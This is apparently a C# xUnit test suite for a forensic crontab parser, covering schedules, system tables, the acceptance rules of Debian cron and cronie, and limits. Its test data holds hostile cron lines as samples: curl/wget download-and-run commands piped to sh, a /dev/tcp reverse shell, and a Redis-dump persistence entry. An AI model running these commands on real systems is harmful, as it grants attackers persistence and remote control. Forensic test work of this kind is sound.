using System.Diagnostics;
using System.Text;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;
using static Forensics.Parsers.Tests.Artifacts.Linux.StartupInput;

namespace Forensics.Parsers.Tests.Artifacts.Linux;

public sealed class CrontabParserTests
{
    private const string UserTable = "/var/spool/cron/crontabs/root";

    [Theory]
    [InlineData("*/2 * * * * (curl -fsSL http://203.0.113.9/b.sh||wget -qO- http://203.0.113.9/b.sh)|sh", "*/2 * * * *", "(curl -fsSL http://203.0.113.9/b.sh||wget -qO- http://203.0.113.9/b.sh)|sh")]
    [InlineData("*/5 * * * * wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron", "*/5 * * * *", "wget -q -O /dev/null https://shop.example/wp-cron.php?doing_wp_cron")]
    [InlineData("@reboot /root/.configrc/a/upd >/dev/null 2>&1", "@reboot", "/root/.configrc/a/upd >/dev/null 2>&1")]
    [InlineData("@midnight\t/usr/bin/backup", "@midnight", "/usr/bin/backup")]
    [InlineData("  \t5\t4  *  *\tsun   /bin/x  y ", "5 4 * * sun", "/bin/x  y ")]
    [InlineData("0 0 1 JAN-mar,DEC Mon-Fri /bin/x # not a comment", "0 0 1 JAN-mar,DEC Mon-Fri", "/bin/x # not a comment")]
    [InlineData("0 22 * * 7 /bin/x", "0 22 * * 7", "/bin/x")]
    [InlineData("0-59/10,7 1-3 1,15 */2 0-7/2 /bin/x", "0-59/10,7 1-3 1,15 */2 0-7/2", "/bin/x")]
    public void Reads_schedule_and_command_of_a_user_table(string line, string schedule, string command)
    {
        CronJob job = Assert.Single(Cron(UserTable, line + "\n"));

        Assert.Equal((CronTable.User, schedule, "root", command), (job.Table, job.Schedule, job.User, job.Command));
        Assert.Null(job.StandardInput);
        Assert.Equal(new CronAcceptance(null, null), job.Acceptance);
        Assert.Null(job.Noise);
    }

    [Theory]
    [InlineData("* * * * * root /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1'", "* * * * * | root | /bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1'")]
    [InlineData("5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1", "5-55/10 * * * * | root | command -v debian-sa1 > /dev/null && debian-sa1 1 1")]
    public void Takes_the_user_column_of_system_tables(string line, string expected)
    {
        Assert.Equal([expected], Flat(Cron("/etc/cron.d/x", line + "\n")));
        Assert.Equal([expected], Flat(Cron("/etc/crontab", line + "\n")));
    }

    [Fact]
    public void Reads_the_system_crontab_of_Debian()
    {
        const string text = """
            # /etc/crontab: system-wide crontab
            # Unlike any other crontab you don't have to run the `crontab'
            # command to install the new version when you edit this file

            SHELL=/bin/sh
            # You can also override PATH, but by default, newer versions inherit it from the environment
            #PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

            # Example of job definition:
            # .---------------- minute (0 - 59)
            # |  .------------- hour (0 - 23)
            # *  *  *  *  * user-name command to be executed
            17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
            25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
            47 6	* * 7	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
            52 6	1 * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
            #

            """;
        IReadOnlyList<CronJob> jobs = Cron("/etc/crontab", text);

        Assert.Equal(
            [
                "17 * * * * | root | cd / && run-parts --report /etc/cron.hourly",
                "25 6 * * * | root | test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
                "47 6 * * 7 | root | test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }",
                "52 6 1 * * | root | test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }",
            ],
            Flat(jobs));
        Assert.All(jobs, job => Assert.Equal(["SHELL=/bin/sh"], job.Environment));
        Assert.All(jobs, job => Assert.Equal((CronTable.System, new CronAcceptance(null, null), null), (job.Table, job.Acceptance, job.Noise)));
        Assert.Equal(13, jobs[0].Location.Line);
        Assert.Equal(text.IndexOf("17 *", StringComparison.Ordinal), jobs[0].Location.ByteOffset);
    }

    [Theory]
    [InlineData("e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n",
        "30 3 * * 0 | root | test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", "10 3 * * * | root | test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r")]
    [InlineData("php", "# /etc/cron.d/php: crontab fragment\n09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n",
        "09,39 * * * * | root | [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi")]
    [InlineData("sysstat", "PATH=/usr/lib/sysstat:/usr/sbin\n\n5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2\n",
        "5-55/10 * * * * | root | command -v debian-sa1 > /dev/null && debian-sa1 1 1", "59 23 * * * | root | command -v debian-sa1 > /dev/null && debian-sa1 60 2")]
    [InlineData("0hourly", "# Run the hourly jobs\nSHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n01 * * * * root run-parts /etc/cron.hourly\n", "01 * * * * | root | run-parts /etc/cron.hourly")]
    [InlineData("raid-check", "# Run system wide raid-check once a week on Sunday at 1am by default\n0 1 * * Sun root /usr/sbin/raid-check\n", "0 1 * * Sun | root | /usr/sbin/raid-check")]
    public void Reads_the_tables_that_distributions_ship(string name, string text, params string[] expected)
    {
        IReadOnlyList<CronJob> jobs = Cron("/etc/cron.d/" + name, text);

        Assert.Equal(expected, Flat(jobs));
        Assert.All(jobs, job => Assert.Equal((CronTable.SystemDirectory, new CronAcceptance(null, null), null), (job.Table, job.Acceptance, job.Noise)));
    }

    [Fact]
    public void Reads_the_crontab_of_SUSE_whose_minus_keeps_it_out_of_the_log()
    {
        const string text = "SHELL=/bin/sh\nPATH=/usr/bin:/usr/sbin:/sbin:/bin:/usr/lib/news/bin\nMAILTO=root\n#\n# check scripts in cron.hourly, cron.daily, cron.weekly, and cron.monthly\n#\n-*/15 * * * *   root  test -x /usr/lib/cron/run-crons && /usr/lib/cron/run-crons >/dev/null 2>&1\n";
        CronJob job = Assert.Single(Cron("/etc/crontab", text));

        Assert.Equal("*/15 * * * *", job.Schedule);
        Assert.True(job.SuppressesLogging);
        Assert.Null(job.Acceptance.CronieRefusal);
        Assert.Equal(["SHELL=/bin/sh", "PATH=/usr/bin:/usr/sbin:/sbin:/bin:/usr/lib/news/bin", "MAILTO=root"], job.Environment);
    }

    [Fact]
    public void Only_root_may_keep_a_user_job_out_of_the_log()
    {
        Assert.Null(Cron("/var/spool/cron/root", "-* * * * * /bin/x\n")[0].Acceptance.CronieRefusal);
        Assert.Contains("logging", Cron("/var/spool/cron/apache", "-* * * * * /bin/x\n", owner: 48)[0].Acceptance.CronieRefusal, StringComparison.Ordinal);
    }

    [Fact]
    public void Reads_the_root_table_of_Alpine()
    {
        const string text = "# do daily/weekly/monthly maintenance\n# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n";
        IReadOnlyList<CronJob> jobs = Cron("/etc/crontabs/root", text, Private);

        Assert.Equal(["*/15 * * * * | root | run-parts /etc/periodic/15min", "0 * * * * | root | run-parts /etc/periodic/hourly", "0 2 * * * | root | run-parts /etc/periodic/daily"], Flat(jobs));
        Assert.All(jobs, job => Assert.Null(job.Acceptance.CronieRefusal));
        Assert.All(jobs, job => Assert.NotNull(job.Acceptance.DebianRefusal));
        Assert.Equal("date +%F", Cron("/etc/crontabs/root", "0 0 * * * date +%F\n")[0].Command);
    }

    [Theory]
    [InlineData("/var/spool/cron/www-data", "www-data")]
    [InlineData("/var/spool/cron/tabs/root", "root")]
    [InlineData("/var/cron/tabs/operator", "operator")]
    public void The_file_name_of_a_user_table_is_the_user(string path, string user)
    {
        CronJob job = Assert.Single(Cron(path, "1 2 3 4 5 root x\n"));
        Assert.Equal((CronTable.User, user, "root x"), (job.Table, job.User, job.Command));
    }

    [Theory]
    [InlineData("sh%curl 203.0.113.9/x%", "sh", "curl 203.0.113.9/x\n")]
    [InlineData("date +\\%F", "date +%F", null)]
    [InlineData("mail -s a\\%b%line 1%50\\% off%", "mail -s a%b", "line 1\n50% off\n")]
    [InlineData("sed 's/\\./x/'", "sed 's/\\./x/'", null)]
    [InlineData("cat%", "cat", "")]
    public void What_follows_a_percent_sign_goes_to_standard_input(string command, string expected, string? standardInput)
    {
        CronJob job = Assert.Single(Cron(UserTable, "* * * * * " + command + "\n"));
        Assert.Equal((expected, standardInput), (job.Command, job.StandardInput));
        Assert.Equal((expected, standardInput), (job.Commands[0].Text, job.Commands[0].StandardInput));
    }

    [Fact]
    public void Environment_lines_count_for_the_jobs_below_them()
    {
        IReadOnlyList<CronJob> jobs = Cron(UserTable, "MAILTO=\"\"\n SHELL = /tmp/.x \n* * * * * a\n'CRON_TZ'='Europe/Berlin'\nSHELL=/bin/bash\nEMPTY=\n* * * * * b=c d\n");

        Assert.Equal(["MAILTO=", "SHELL=/tmp/.x"], jobs[0].Environment);
        Assert.Equal(["MAILTO=", "SHELL=/bin/bash", "CRON_TZ=Europe/Berlin", "EMPTY="], jobs[1].Environment);
        Assert.Equal("b=c d", jobs[1].Command);
    }

    [Theory]
    [InlineData("* * * * *\n")]
    [InlineData("* * * *\n")]
    [InlineData("this is a line of english text\n")]
    [InlineData("60 sec\n")]
    [InlineData("@reboot\n")]
    [InlineData("#* * * * * root x\n")]
    [InlineData("   # * * * * * root x\n")]
    [InlineData("A B=c\n")]
    [InlineData("A='b' c\n")]
    [InlineData("")]
    public void What_names_no_schedule_and_command_is_no_job(string text) => Assert.Empty(Cron(UserTable, text));

    [Theory]
    [InlineData("60 * * * *", "bad minute", "bad minute")]
    [InlineData("* 24 * * *", "bad hour", "bad hour")]
    [InlineData("* * 0 * *", "bad day-of-month", "bad day-of-month")]
    [InlineData("* * * 13 *", "bad month", "bad month")]
    [InlineData("* * * * 8", "bad day-of-week", "bad day-of-week")]
    [InlineData("*/0 * * * *", "bad minute", "bad minute")]
    [InlineData("5-1 * * * *", null, "bad minute")]
    [InlineData("0-60 * * * *", "bad minute", "bad minute")]
    [InlineData("1, * * * *", "bad minute", "bad minute")]
    [InlineData("6~15 * * * *", null, null)]
    [InlineData("~ ~ ~15 6~ *", "bad minute", null)]
    [InlineData("5/10 * * * *", "bad minute", "bad minute")]
    [InlineData("6~ * * * *", null, null)]
    [InlineData("~ * * * *", "bad minute", null)]
    [InlineData("*x * * * *", null, null)]
    [InlineData("0-60/70 * * * *", "bad minute", "bad minute")]
    [InlineData("5,*/0 * * * *", "bad minute", "bad minute")]
    [InlineData("* * * * fri-mon", null, "bad day-of-week")]
    [InlineData("* * * * 5#3", null, "bad day-of-week")]
    [InlineData("1-2-3 * * * *", null, "bad minute")]
    [InlineData("0000000000000000005 * * * *", null, null)]
    [InlineData("* * * * *a", null, null)]
    [InlineData("@sometimes", "bad time specifier", "bad time specifier")]
    // Debian's column is what "crontab -n" of cron 3.0pl1-162 answers.
    public void A_wrong_schedule_is_reported_with_what_each_daemon_says(string schedule, string? debian, string? cronie)
    {
        CronJob job = Assert.Single(Cron(UserTable, schedule + " /tmp/.x\n"));

        Assert.Equal((schedule, "/tmp/.x"), (job.Schedule, job.Command));
        Assert.Equal(debian is null ? null : "Debian cron ignores the whole table: line 1 is wrong (" + debian + ")", job.Acceptance.DebianRefusal);
        Assert.Equal(cronie is null ? null : "cronie drops the line: " + cronie, job.Acceptance.CronieRefusal);
    }

    [Theory]
    [InlineData("* * * * * /tmp/.x -a\n", "/tmp/.x -a")]
    [InlineData("* * * * * /tmp/.x\n", "/tmp/.x")]
    [InlineData("* * * * * * root /tmp/.x\n", "* root /tmp/.x")]
    public void A_system_table_line_without_user_is_refused_but_reported(string text, string command)
    {
        CronJob job = Assert.Single(Cron("/etc/cron.d/x", text));

        Assert.Null(job.User);
        Assert.Equal(command, job.Command);
        Assert.Contains("bad", job.Acceptance.DebianRefusal, StringComparison.Ordinal);
        Assert.Contains("bad", job.Acceptance.CronieRefusal, StringComparison.Ordinal);
    }

    [Fact]
    public void One_bad_line_kills_the_table_on_Debian_and_only_itself_on_cronie()
    {
        IReadOnlyList<CronJob> jobs = Cron("/etc/cron.d/x", "* * * * * root a\nnonsense here\n* * * * * root b\n");

        Assert.All(jobs, job => Assert.Equal("Debian cron ignores the whole table: line 2 is wrong (bad minute)", job.Acceptance.DebianRefusal));
        Assert.All(jobs, job => Assert.Null(job.Acceptance.CronieRefusal));
        Assert.All(jobs, job => Assert.Equal("1 line is no cron syntax, first line 2", job.Noise));
    }

    [Theory]
    [InlineData("* * * * *", null)]
    [InlineData("@reboot", null)]
    [InlineData("\"A\"=\"b\"", null)]
    [InlineData("\"A B\"=c", null)]
    [InlineData("=x", null)]
    [InlineData("*=x", null)]
    [InlineData("  \t ", null)]
    [InlineData("A=", "bad minute")]
    [InlineData("A='b' c", "bad minute")]
    [InlineData("A B=c", "bad minute")]
    [InlineData("A", "bad minute")]
    [InlineData("5x * * * * a", "bad minute")]
    [InlineData("1-5x * * * * a", "bad minute")]
    [InlineData("\uFEFF# x", "bad minute")]
    // As "crontab -n" of cron 3.0pl1-162 answers.
    public void Debian_tells_odd_lines_from_wrong_ones(string line, string? refusal) =>
        Assert.Equal(refusal is null ? null : $"Debian cron ignores the whole table: line 1 is wrong ({refusal})", Cron(UserTable, line + "\n* * * * * x\n")[0].Acceptance.DebianRefusal);

    [Fact]
    public void A_missing_newline_behind_a_comment_harms_nobody()
    {
        Assert.Equal(new CronAcceptance(null, null), Cron(UserTable, "* * * * * a\n# end")[0].Acceptance);
        Assert.NotNull(Cron(UserTable, "* * * * * a\nA=b")[0].Acceptance.DebianRefusal);
    }

    [Fact]
    public void A_missing_final_newline_kills_the_table_on_Debian_and_the_last_line_on_cronie()
    {
        IReadOnlyList<CronJob> jobs = Cron(UserTable, "* * * * * a\n* * * * * b");

        Assert.All(jobs, job => Assert.Equal("Debian cron ignores the whole table: the last line has no line end", job.Acceptance.DebianRefusal));
        Assert.Equal([null, "cronie drops the last line: it has no line end"], jobs.Select(job => job.Acceptance.CronieRefusal));
    }

    [Theory]
    [InlineData("/etc/cron.d/x.sh", Public, 0u, 1u, "dot", null)]
    [InlineData("/etc/cron.d/.x", Public, 0u, 1u, "dot", "begins with .")]
    [InlineData("/etc/cron.d/x~", Public, 0u, 1u, "tilde", "ends in ~")]
    [InlineData("/etc/cron.d/x.rpmsave", Public, 0u, 1u, "dot", "ends in .rpmsave")]
    [InlineData("/etc/cron.d/x", Executable, 0u, 1u, null, "mode 0755")]
    [InlineData("/etc/cron.d/x", 0b110_110_100, 0u, 1u, "mode 0664", "mode 0664")]
    [InlineData("/etc/cron.d/x", Private, 0u, 1u, null, null)]
    [InlineData("/etc/cron.d/x", 0b100_000_000, 0u, 1u, null, null)]
    [InlineData("/etc/cron.d/x", Public, 1000u, 1u, "root does not own", "root does not own")]
    [InlineData("/etc/cron.d/x", Public, 0u, 2u, "2 hard links", null)]
    [InlineData("/etc/crontab", Public, 0u, 1u, null, null)]
    [InlineData(UserTable, Private, 0u, 1u, null, null)]
    [InlineData(UserTable, Public, 0u, 1u, "mode 0644 (only 0600)", null)]
    [InlineData(UserTable, Private, 0u, 2u, "2 hard links", "2 hard links")]
    [InlineData("/var/spool/cron/crontabs/.hidden", Private, 0u, 1u, "begins with a dot", "begins with .")]
    [InlineData("/var/spool/cron/root", Private, 0u, 1u, "only from /var/spool/cron/crontabs", null)]
    [InlineData("/var/spool/cron/root", Public, 0u, 1u, "only from /var/spool/cron/crontabs", null)]
    [InlineData("/var/spool/cron/root", Executable, 0u, 1u, "only from /var/spool/cron/crontabs", "mode 0755")]
    [InlineData("/var/spool/cron/root", Private, 99u, 1u, "only from /var/spool/cron/crontabs", "root does not own")]
    [InlineData("/var/spool/cron/mysql", Private, 27u, 1u, "only from /var/spool/cron/crontabs", null)]
    [InlineData("/var/spool/cron/root.rpmnew", Private, 0u, 1u, "only from /var/spool/cron/crontabs", "ends in .rpmnew")]
    [InlineData("/etc/crontabs/x.y", Private, 0u, 1u, "only from /var/spool/cron/crontabs", "Busybox")]
    public void Each_daemon_has_its_own_idea_of_an_acceptable_file(string path, int mode, uint owner, uint links, string? debian, string? cronie)
    {
        CronAcceptance acceptance = Assert.Single(Cron(path, "* * * * * root x\n", mode, owner, links)).Acceptance;

        AssertClause(debian, acceptance.DebianRefusal);
        AssertClause(cronie, acceptance.CronieRefusal);
    }

    [Fact]
    public void Debian_ignores_a_table_of_more_than_10000_lines()
    {
        Assert.Null(Cron("/etc/cron.d/x", "* * * * * root x\n" + new string('\n', 9_999))[0].Acceptance.DebianRefusal);
        CronAcceptance acceptance = Cron("/etc/cron.d/x", "* * * * * root x\n" + new string('\n', 10_000))[0].Acceptance;
        Assert.Contains("10000", acceptance.DebianRefusal, StringComparison.Ordinal);
        Assert.Null(acceptance.CronieRefusal);
    }

    [Fact]
    public void Finds_the_job_in_a_Redis_dump()
    {
        byte[] content = [.. "REDIS0009\xfa\tredis-ver\x05"u8, 0xff, 0xfe, 0x00, .. "\x02\xc0\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n"u8, 0xff, 0x12, 0x00, .. "a=\x9b"u8];
        var list = Run(new CrontabParser(), "/var/spool/cron/root", content, Public);
        CronJob job = Assert.IsType<CronJob>(Assert.Single(list.Artifacts));

        Assert.Equal("root curl -fsSL http://203.0.113.9/init.sh | sh", job.Command);
        Assert.Equal("Redis dump header REDIS0009; binary data between the lines", job.Noise);
        Assert.Null(job.Acceptance.CronieRefusal);
        Assert.Equal(3, job.Location.Line);
        Assert.Equal(content.AsSpan().IndexOf("*/2"u8), job.Location.ByteOffset);
        CronJob debian = (CronJob)Run(new CrontabParser(), UserTable, content, Private).Artifacts[0];
        Assert.NotNull(debian.Acceptance.DebianRefusal);
    }

    [Fact]
    public void Carriage_returns_are_taken_off_and_named()
    {
        IReadOnlyList<CronJob> jobs = Cron("/etc/cron.d/x", "# a\r\nMAILTO=x\r\n* * * * * root /bin/y\r\n");
        Assert.Equal(["* * * * * | root | /bin/y"], Flat(jobs));
        Assert.Equal(["MAILTO=x"], jobs[0].Environment);
        Assert.Equal("lines end in CR LF", jobs[0].Noise);
        Assert.Null(jobs[0].Acceptance.DebianRefusal);
        Assert.Contains("line 1", Cron("/etc/cron.d/x", "\r\n* * * * * root /bin/y\r\n")[0].Acceptance.DebianRefusal, StringComparison.Ordinal);
    }

    [Fact]
    public void A_NUL_ends_the_line_as_it_does_for_the_daemon()
    {
        CronJob job = Assert.Single(Cron(UserTable, "* * * * * /bin/x\0hidden\n"));
        Assert.Equal("/bin/x", job.Command);
        Assert.Equal("binary data between the lines", job.Noise);
    }

    [Fact]
    public void Hands_over_the_command_as_cron_would_start_it()
    {
        StartCommand command = Cron(UserTable, "A=b\n@reboot /bin/x\n")[0].Commands.Single();
        Assert.Equal(("/bin/x", true, "cron @reboot", "root", 2, 4L), (command.Text, command.ThroughShell, command.Trigger, command.User, command.Line, command.ByteOffset));
        Assert.Equal(["A=b"], command.Environment);
    }

    [Fact]
    public void A_million_lines_end_quickly_with_a_bounded_number_of_jobs()
    {
        byte[] content = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("* * * * * root a\n", 16 * 1024 * 1024 / 17)));
        var watch = Stopwatch.StartNew();
        var list = Run(new CrontabParser(), "/etc/cron.d/x", content, Public);

        Assert.Equal(100_000, list.Artifacts.Count);
        Assert.True(Assert.Single(list.Diagnostics).LosesContent);
        Assert.True(watch.ElapsedMilliseconds < 10_000, watch.ElapsedMilliseconds + " ms");
    }

    [Theory]
    [InlineData("\n")]
    [InlineData("a\n")]
    [InlineData("A=b\n")]
    [InlineData("\0")]
    [InlineData("\r\n")]
    [InlineData("* ")]
    [InlineData("*/2,")]
    [InlineData("@")]
    [InlineData("%")]
    [InlineData("'")]
    [InlineData("* * * * * x%\\%")]
    public void Megabytes_of_anything_end_quickly(string piece)
    {
        byte[] content = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat(piece, 4 * 1024 * 1024 / piece.Length)));
        var watch = Stopwatch.StartNew();
        Run(new CrontabParser(), "/etc/cron.d/x", content, Public);
        Assert.True(watch.ElapsedMilliseconds < 10_000, watch.ElapsedMilliseconds + " ms");
    }

    [Fact]
    public void A_line_of_16_MiB_is_cut_and_the_next_one_read()
    {
        byte[] content = [.. "* * * * * root a "u8, .. new byte[16 * 1024 * 1024 - 100].AsSpan(), .. "\n* * * * * root b\n"u8];
        content.AsSpan(17, 16 * 1024 * 1024 - 100).Fill((byte)'x');
        var list = Run(new CrontabParser(), "/etc/cron.d/x", content, Public);

        Assert.Equal([65536 - 15, 1], list.Artifacts.Cast<CronJob>().Select(job => job.Command.Length));
        Assert.Equal(("crontab.line.long", true), (list.Diagnostics.Single().Code, list.Diagnostics.Single().LosesContent));
    }

    [Fact]
    public void Many_variables_between_many_jobs_do_not_cost_quadratic_memory()
    {
        var text = new StringBuilder();
        for (int i = 0; i < 200; i++)
        {
            text.Append("V").Append(i).Append("=x\n");
        }
        for (int i = 0; i < 50_000; i++)
        {
            text.Append("V1=").Append(i).Append("\n* * * * * root a\n");
        }
        IReadOnlyList<CronJob> jobs = Cron("/etc/cron.d/x", text.ToString());
        Assert.Equal(50_000, jobs.Count);
        Assert.True(jobs.Select(job => job.Environment).Distinct(ReferenceEqualityComparer.Instance).Count() < 10_000);
    }

    [Fact]
    public void Random_bytes_never_throw()
    {
        var random = new Random(7);
        byte[] alphabet = "*/,-~%\\\n\r\t 019@reboot=\"'#\0\xff\xefA"u8.ToArray();
        for (int round = 0; round < 5_000; round++)
        {
            var content = new byte[random.Next(200)];
            for (int i = 0; i < content.Length; i++)
            {
                content[i] = random.Next(8) == 0 ? (byte)random.Next(256) : alphabet[random.Next(alphabet.Length)];
            }
            foreach (string path in (string[])["/etc/crontab", UserTable, "/etc/crontabs/root"])
            {
                Assert.All(Run(new CrontabParser(), path, content, Public).Artifacts, artifact => Assert.InRange(artifact.Location.ByteOffset!.Value, 0, content.Length));
            }
            Run(new AnacrontabParser(), "/etc/anacrontab", content, Public);
            Run(new InittabParser(), "/etc/inittab", content, Public);
            Run(new InitScriptParser(), "/etc/init.d/x", content, Public);
        }
    }

    private static void AssertClause(string? part, string? clause)
    {
        if (part is null)
        {
            Assert.Null(clause);
        }
        else
        {
            Assert.Contains(part, clause, StringComparison.Ordinal);
        }
    }
}
